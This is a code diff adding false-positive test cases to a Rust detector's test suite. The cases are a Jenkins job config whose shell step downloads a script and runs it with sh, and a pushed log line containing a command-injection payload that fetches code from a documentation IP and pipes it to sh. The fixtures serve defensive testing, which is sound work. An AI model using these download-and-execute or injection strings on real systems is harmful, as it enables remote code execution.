@@ -25,6 +25,11 @@ fn ordinary_sites_stay_silent() {
         &with("POST /api/v4/projects/7/repository/commits", "PRIVATE-TOKEN: x\r\nContent-Type: application/json\r\n", commit),
         &ok,
     );
+    let build = br#"<project><builders><Shell><command>cd /tmp &amp;&amp; wget http://mirror.vendor.example/tool.sh &amp;&amp; sh tool.sh</command></Shell></builders></project>"#;
+    let operator = "Authorization: Basic YTpi\r\nJenkins-Crumb: x\r\nContent-Type: application/xml\r\n";
+    table.web("a build", NOTHING, None, &with("POST /job/a/config.xml", operator, build), &ok);
+    let log = br#"{"streams":[{"values":[["1","192.0.2.9 - - \"GET /cgi-bin/;a=$(wget http://192.0.2.1/a -O-|sh) HTTP/1.1\" 404"]]}]}"#;
+    table.web("a log", NOTHING, None, &post("/loki/api/v1/push", "application/json", log), &ok);
     table.web(
         "a speed test",
         NOTHING,
